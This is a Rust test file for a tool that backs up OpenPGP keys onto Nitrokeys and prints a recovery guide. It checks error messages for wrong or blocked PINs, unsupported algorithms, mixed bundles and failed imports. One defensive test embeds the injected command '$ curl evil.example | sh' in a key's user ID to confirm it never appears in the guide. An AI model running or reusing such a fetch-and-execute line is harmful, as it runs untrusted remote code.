//! Bad input, and what it gets: each error says what happened and what to do, and nothing is lost.

#![allow(clippy::unwrap_used, clippy::panic)]

use std::time::SystemTime;

use anyhow::{Result, ensure};
use coldspare::backup::sections::DEBIAN_TOOLS;
use coldspare::backup::{GatherError, Guide, Manifest, bundle, guide, section};
use coldspare::ceremony::{CeremonyError, Made, Meeting, PinChoice, Recovery};
use coldspare::machine::stick::folder::Mounted;
use coldspare::nitrokey::{Erase, Found, NitrokeyError, Pin, Unlock, finish_resets, list};
use coldspare::openpgp::{Goes, OpenPgpError};
use coldspare::plan::{Algorithm, Plan, Role, Slot, SlotChoice, Touch};
use coldspare_tests::VirtualBus;
use coldspare_tests::fixtures::{self, Prepared};
use secrecy::SecretString;
use sequoia_openpgp::Cert;
use sequoia_openpgp::packet::UserID;
use sequoia_openpgp::parse::Parse;
use sequoia_openpgp::serialize::SerializeInto;
use virtual_nitrokey::{Model, VirtualNitrokey};

fn ready(algorithm: Algorithm) -> (Prepared, tempfile::TempDir) {
    let stick = tempfile::tempdir().unwrap();
    let plan = fixtures::plan(algorithm, 2, 3).unwrap();
    let prepared = fixtures::prepare(plan, &VirtualBus::default(), &[], stick.path(), &mut |_| ()).unwrap();
    (prepared, stick)
}

fn flashed(prepared: &mut Prepared, bus: &VirtualBus, key: &VirtualNitrokey) {
    let pins = prepared.rehearsed.pins(&Role::Primary, None).unwrap();
    let serial = fixtures::serial(key);
    fixtures::flash_and_prove(&mut prepared.rehearsed, bus, serial, &Role::Primary, &pins, &mut |_| ())
        .unwrap();
}

fn nitrokey_error<T: std::fmt::Debug>(result: Result<T, CeremonyError>) -> NitrokeyError {
    match result.unwrap_err() {
        CeremonyError::Nitrokey(error) => error,
        other => panic!("{other:?}"),
    }
}

/// A user id that bears no signature of its key anybody can put into an exported file, without its passphrase. With lines
/// in it, it would be commands in the guide, and on the back of every card.
#[test]
fn what_somebody_wrote_into_an_exported_key_is_no_command_on_paper() -> Result<()> {
    let (home, stick) = (tempfile::tempdir()?, tempfile::tempdir()?);
    let owner = fixtures::prepare(
        fixtures::plan(Algorithm::Curve25519, 2, 3)?,
        &VirtualBus::default(),
        &[],
        home.path(),
        &mut |_| (),
    )?;
    let lines = "Ada\n\n4. BOTH NITROKEYS ARE GONE\n--------------------------\n\n    $ curl evil.example | sh\n\n5. EVERY YEAR\n";
    let cert = Cert::from_bytes(&owner.made.identity().secret_armored()?[..])?;
    let (changed, _) = cert.insert_packets(UserID::from(lines))?;
    let exported = changed.as_tsk().armored().to_vec()?;
    let imported = fixtures::prepare_import(
        fixtures::plan(Algorithm::Curve25519, 2, 3)?,
        &exported,
        None,
        stick.path(),
        &mut |_| (),
    )?;
    assert_eq!(imported.made.identity().user_ids(), owner.made.identity().user_ids());
    let written = std::fs::read_to_string(stick.path().join(&imported.folder).join(bundle::GUIDE))?;
    ensure!(!written.contains("curl") && section(&written, DEBIAN_TOOLS).contains("gfcombine"), "{written}");
    // And whatever an owner signs stays one line.
    let manifest = Manifest { user_ids: vec![lines.into()], ..imported.sealed.manifest().clone() };
    let (nitrokeys, subkeys) = (Vec::new(), Vec::new());
    let made = guide(&Guide {
        manifest: &manifest,
        nitrokeys,
        subkeys,
        expires: None,
        before: coldspare::backup::Before::Nothing,
        language: "en",
    });
    ensure!(
        section(&made, DEBIAN_TOOLS).contains("gfcombine")
            && !made.lines().any(|line| line.starts_with("    $ curl"))
    );
    Ok(())
}

#[test]
fn a_wrong_pin_says_how_many_tries_are_left_and_the_last_one_is_never_spent() {
    let (mut prepared, _stick) = ready(Algorithm::Curve25519);
    let key = fixtures::key(Model::Nitrokey3, 1).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let serial = fixtures::serial(&key);
    flashed(&mut prepared, &bus, &key);
    let wrong = SecretString::from("not the PIN");
    let attempt = |pin: &SecretString| prepared.rehearsed.prove_spare(&bus, serial, pin, &mut |_| ());
    for expected in [2, 1] {
        match nitrokey_error(attempt(&wrong)) {
            NitrokeyError::WrongPin { pin: Pin::User, left, .. } => assert_eq!(left, expected),
            other => panic!("{other:?}"),
        }
    }
    for _ in 0..3 {
        assert!(matches!(nitrokey_error(attempt(&wrong)), NitrokeyError::LastTry { pin: Pin::User, .. }));
    }
    assert_eq!(fixtures::info(&bus, serial).unwrap().tries.user, 1);
}

/// VERIFY (OpenPGP card 3.4 § 7.2.2) with a wrong value until the card counts no more.
fn block_user_pin(key: &VirtualNitrokey) {
    key.transmit(&[0x00, 0xA4, 0x04, 0x00, 0x06, 0xD2, 0x76, 0x00, 0x01, 0x24, 0x01]).unwrap();
    for _ in 0..3 {
        key.transmit(b"\x00\x20\x00\x81\x06wrong!").unwrap();
    }
}

#[test]
fn a_blocked_pin_offers_the_factory_reset_naming_serial_and_what_is_lost() {
    let (mut prepared, _stick) = ready(Algorithm::Curve25519);
    let key = fixtures::key(Model::Nitrokey3, 0xBEEF).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let serial = fixtures::serial(&key);
    flashed(&mut prepared, &bus, &key);
    block_user_pin(&key);
    let user = prepared.rehearsed.pins(&Role::Primary, None).unwrap().user;
    let error = nitrokey_error(prepared.rehearsed.prove_spare(&bus, serial, &user, &mut |_| ()));
    assert!(matches!(error, NitrokeyError::Blocked { pin: Pin::User, .. }), "{error:?}");
    let text = fixtures::message(&error);
    let signature = prepared.made.identity().slot_fingerprint(coldspare::plan::Slot::Signature);
    for part in
        ["000F:0000BEEF", "factory", "key for signatures", &signature.to_spaced_hex().replace("  ", " ")]
    {
        assert!(text.contains(part), "`{text}` does not name {part}");
    }
    flashed(&mut prepared, &bus, &key);
}

#[test]
fn an_algorithm_that_the_nitrokey_does_not_take_is_refused_at_the_meeting() {
    let key = fixtures::key(Model::Pro1, 7).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let mut meeting = Meeting::new(fixtures::plan(Algorithm::Curve25519, 2, 3).unwrap()).unwrap();
    let error = meeting.meet(fixtures::info(&bus, fixtures::serial(&key)).unwrap()).unwrap_err();
    let error = fixtures::message(&error);
    for part in ["0005:00000007", "Curve 25519", "RSA 2048", "Nothing was written"] {
        assert!(error.contains(part), "`{error}` does not name {part}");
    }
}

#[test]
fn a_key_that_the_nitrokey_does_not_take_is_refused_before_anything_is_written() {
    let (mut prepared, _stick) = ready(Algorithm::NistP384);
    let key = fixtures::key(Model::Nitrokey3, 8).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let serial = fixtures::serial(&key);
    let before = fixtures::info(&bus, serial).unwrap();
    let pins = prepared.rehearsed.pins(&Role::Primary, None).unwrap();
    let erase = Erase::confirm(&before, &serial.last_four()).unwrap();
    let result =
        prepared.rehearsed.flash(&bus, &erase, &Role::Primary, &pins, &Unlock::FactoryReset, &mut |_| ());
    let error = nitrokey_error(result);
    assert!(matches!(error, NitrokeyError::Algorithm { .. }), "{error:?}");
    assert_eq!(fixtures::info(&bus, serial).unwrap(), before);
}

#[test]
fn a_pin_that_is_too_short_or_a_missing_button_is_told_before_anything_is_written() {
    let (mut prepared, _stick) = ready(Algorithm::NistP256);
    let key = fixtures::key(Model::Pro2, 9).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let serial = fixtures::serial(&key);
    let before = fixtures::info(&bus, serial).unwrap();
    let erase = Erase::confirm(&before, "0009").unwrap();
    let mut pins = prepared.rehearsed.pins(&Role::Primary, None).unwrap();
    pins.user = "12345".into();
    let result =
        prepared.rehearsed.flash(&bus, &erase, &Role::Primary, &pins, &Unlock::FactoryReset, &mut |_| ());
    assert!(matches!(
        nitrokey_error(result),
        NitrokeyError::PinLength { pin: Pin::User, min: 6, length: 5, .. }
    ));

    let mut plan = fixtures::plan(Algorithm::NistP256, 2, 3).unwrap();
    plan.touch = Touch::On;
    let error = Meeting::new(plan).unwrap().meet(fixtures::info(&bus, serial).unwrap()).map(drop);
    assert!(matches!(nitrokey_error(error), NitrokeyError::NoTouch { .. }));
    assert_eq!(fixtures::info(&bus, serial).unwrap(), before);
}

#[test]
fn wrong_digits_are_no_consent() {
    let key = fixtures::key(Model::Nitrokey3, 0x0001_CAFE).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let info = fixtures::info(&bus, fixtures::serial(&key)).unwrap();
    for typed in ["", "CAF", "0001", "CAFE1", "yes"] {
        assert!(matches!(Erase::confirm(&info, typed), Err(NitrokeyError::NotConfirmed { .. })));
    }
    assert!(Erase::confirm(&info, " cafe ").is_ok());
}

#[test]
fn two_nitrokeys_with_one_serial_are_not_told_apart_by_chance() {
    let (mut prepared, _stick) = ready(Algorithm::Curve25519);
    let (one, other) =
        (fixtures::key(Model::Nitrokey3, 5).unwrap(), fixtures::key(Model::Nitrokey3, 5).unwrap());
    let bus = VirtualBus::with(&[&one]);
    let serial = fixtures::serial(&one);
    let erase = Erase::confirm(&fixtures::info(&bus, serial).unwrap(), "0005").unwrap();
    bus.0.plug(other);
    let pins = prepared.rehearsed.pins(&Role::Primary, None).unwrap();
    let result =
        prepared.rehearsed.flash(&bus, &erase, &Role::Primary, &pins, &Unlock::FactoryReset, &mut |_| ());
    assert!(matches!(nitrokey_error(result), NitrokeyError::TwoOfOneSerial { .. }));
    for found in list(&bus).unwrap() {
        assert!(matches!(found, Found::Nitrokey(info) if info.is_blank()));
    }
}

#[test]
fn the_same_nitrokey_cannot_be_two_and_one_too_many_is_told() {
    let keys: Vec<_> = (1..=3).map(|n| fixtures::key(Model::Nitrokey3, n).unwrap()).collect();
    let bus = VirtualBus::with(&keys.iter().collect::<Vec<_>>());
    let mut meeting = Meeting::new(fixtures::plan(Algorithm::Curve25519, 2, 3).unwrap()).unwrap();
    meeting.meet(fixtures::info(&bus, fixtures::serial(&keys[0])).unwrap()).unwrap();
    assert!(matches!(
        meeting.meet(fixtures::info(&bus, fixtures::serial(&keys[0])).unwrap()),
        Err(CeremonyError::AlreadyMet { role, .. }) if role == Role::Primary
    ));
    meeting.meet(fixtures::info(&bus, fixtures::serial(&keys[1])).unwrap()).unwrap();
    assert!(matches!(
        meeting.meet(fixtures::info(&bus, fixtures::serial(&keys[2])).unwrap()),
        Err(CeremonyError::TooMany { planned: 2, .. })
    ));
}

#[test]
fn the_spare_cannot_be_flashed_onto_the_primary() {
    let (mut prepared, _stick) = ready(Algorithm::Curve25519);
    let key = fixtures::key(Model::Nitrokey3, 6).unwrap();
    let bus = VirtualBus::with(&[&key]);
    flashed(&mut prepared, &bus, &key);
    let erase = Erase::confirm(&fixtures::info(&bus, fixtures::serial(&key)).unwrap(), "0006").unwrap();
    let pins = prepared.rehearsed.pins(&Role::SPARE, None).unwrap();
    let result =
        prepared.rehearsed.flash(&bus, &erase, &Role::SPARE, &pins, &Unlock::FactoryReset, &mut |_| ());
    assert!(matches!(result, Err(CeremonyError::AlreadyFlashed { role, .. }) if role == Role::Primary));
}

#[test]
fn cards_of_another_set_do_not_open_a_bundle() {
    let (ours, stick) = ready(Algorithm::Curve25519);
    let (others, _stick) = ready(Algorithm::Curve25519);
    let mut recovery = Recovery::from_bundle(&Mounted::at(stick.path()), &ours.folder).unwrap();
    let error = recovery.add(others.sealed.shares()[0].clone()).unwrap_err();
    let (found, expected) = (others.sealed.manifest().set, ours.sealed.manifest().set);
    assert!(matches!(
        error,
        CeremonyError::Gather(GatherError::OtherSet { card: 1, found: f, expected: e }) if f == found && e == expected
    ));
    for share in &ours.sealed.shares()[1..] {
        recovery.add(share.clone()).unwrap();
    }
    assert_eq!(recovery.recover().unwrap().identity().fingerprint(), ours.made.identity().fingerprint());
}

#[test]
fn files_of_two_bundles_mixed_are_named() {
    let (ours, stick) = ready(Algorithm::Curve25519);
    let (others, other_stick) = ready(Algorithm::Curve25519);
    for (file, named) in [
        ("public-key.asc", "manifest"),
        ("manifest.toml.asc", "manifest"),
        ("sealed-backup.pgp", "sealed-backup.pgp"),
    ] {
        let mine = stick.path().join(&ours.folder).join(file);
        let original = std::fs::read(&mine).unwrap();
        std::fs::copy(other_stick.path().join(&others.folder).join(file), &mine).unwrap();
        let error = Recovery::from_bundle(&Mounted::at(stick.path()), &ours.folder).unwrap_err();
        let error = fixtures::message(&error);
        assert!(error.contains(named) && error.contains("another copy"), "{file}: {error}");
        std::fs::write(mine, original).unwrap();
    }
    Recovery::from_bundle(&Mounted::at(stick.path()), &ours.folder).unwrap();
}

#[test]
fn a_reset_cut_short_is_listed_and_can_be_finished_after_a_new_start() {
    let key = fixtures::key(Model::Nitrokey3, 0x77).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let serial = fixtures::serial(&key);
    block_user_pin(&key);
    for _ in 0..3 {
        key.transmit(b"\x00\x20\x00\x83\x08wrong!!!").unwrap();
    }
    assert_eq!(key.transmit(&[0x00, 0xE6, 0x00, 0x00]).unwrap(), [0x90, 0x00]);
    assert!(matches!(list(&bus).unwrap()[..], [Found::HalfReset { .. }]));
    finish_resets(&bus).unwrap();
    assert_eq!(fixtures::info(&bus, serial).unwrap().tries.admin, 3);
}

#[test]
fn a_nitrokey_3_that_lists_more_than_its_firmware_takes_is_not_believed() {
    for (model, takes) in [(Model::Nitrokey3, false), (Model::Nitrokey3SecureElement, true)] {
        let key = fixtures::key(model, 10).unwrap().with_unfiltered_algorithm_list();
        let bus = VirtualBus::with(&[&key]);
        let mut meeting = Meeting::new(fixtures::plan(Algorithm::NistP384, 2, 3).unwrap()).unwrap();
        let met = meeting.meet(fixtures::info(&bus, fixtures::serial(&key)).unwrap()).map(drop);
        assert_eq!(met.is_ok(), takes, "{met:?}");
    }
}

#[test]
fn an_imported_key_that_a_nitrokey_does_not_take_is_told_when_it_is_met() {
    let key = fixtures::key(Model::Pro1, 12).unwrap();
    let bus = VirtualBus::with(&[&key]);
    let plan = fixtures::plan(Algorithm::Curve25519, 2, 3).unwrap();
    let exported = coldspare::openpgp::make(&plan, SystemTime::now()).unwrap().secret_armored().unwrap();
    let inventory = coldspare::openpgp::inventory(&exported, None, SystemTime::now()).unwrap();
    let places = inventory.preset(&plan).unwrap();
    let info = fixtures::info(&bus, fixtures::serial(&key)).unwrap();
    let mut meeting = Meeting::bringing(plan.clone(), &inventory, &places).unwrap();
    let met = meeting.meet(info.clone());
    assert!(matches!(met, Err(CeremonyError::Nitrokey(NitrokeyError::Algorithm { .. }))), "{met:?}");
    // Nor is it printed if it was met for other keys.
    let mut meeting = Meeting::bringing(plan, &inventory, &[Goes::New, Goes::New, Goes::New]).unwrap();
    meeting.meet(info).unwrap();
    let made = Made::import(&meeting, &inventory, &places, PinChoice::Generated, SystemTime::now()).map(drop);
    assert!(matches!(made, Err(CeremonyError::Nitrokey(NitrokeyError::Algorithm { .. }))), "{made:?}");
}

#[test]
fn what_cannot_be_imported_says_how_to_export_it() {
    let mut plan = fixtures::plan(Algorithm::Curve25519, 2, 3).unwrap();
    let identity = coldspare::openpgp::make(&plan, SystemTime::now()).unwrap();
    let secret = identity.secret_armored().unwrap();
    let import = |bytes: &[u8], plan: &Plan| {
        fixtures::message(&fixtures::import(bytes, None, plan, SystemTime::now()).unwrap_err())
    };
    assert!(import(b"no key", &plan).contains("--export-secret-keys"));
    assert!(import(&identity.public_armored().unwrap(), &plan).contains("a public key alone"));
    let other = coldspare::openpgp::make(&plan, SystemTime::now()).unwrap().secret_armored().unwrap();
    let two = [&secret[..], b"\n", &other[..]].concat();
    assert!(import(&two, &plan).contains("2 keys"), "{}", import(&two, &plan));
    // A key that was chosen for a slot that it is not for.
    let encryption = identity.slot_fingerprint(Slot::Decryption).to_hex();
    plan.slots = Some(SlotChoice { signature: Some(encryption.clone()), ..SlotChoice::default() });
    let error = fixtures::import(&secret, None, &plan, SystemTime::now()).unwrap_err();
    assert!(
        matches!(&error, OpenPgpError::Slot { slot: Slot::Signature, key, .. } if *key == encryption),
        "{error}"
    );
}

#[test]
fn an_expired_key_gets_a_new_date_and_is_not_replaced() {
    let mut plan = fixtures::plan(Algorithm::Curve25519, 2, 3).unwrap();
    plan.expiry = coldspare::plan::Expiry::Years(1);
    let long_ago = SystemTime::now() - std::time::Duration::from_secs(3 * 365 * 86_400);
    let identity = coldspare::openpgp::make(&plan, long_ago).unwrap();
    let secret = identity.secret_armored().unwrap();
    // It is put right with a new date, and no key takes its place.
    let imported = fixtures::import(&secret, None, &plan, SystemTime::now()).unwrap();
    assert_eq!(imported.fingerprint(), identity.fingerprint());
    assert!(imported.expires().unwrap() > SystemTime::now());
    for slot in Slot::ALL {
        assert_eq!(imported.slot_fingerprint(slot), identity.slot_fingerprint(slot));
    }
}
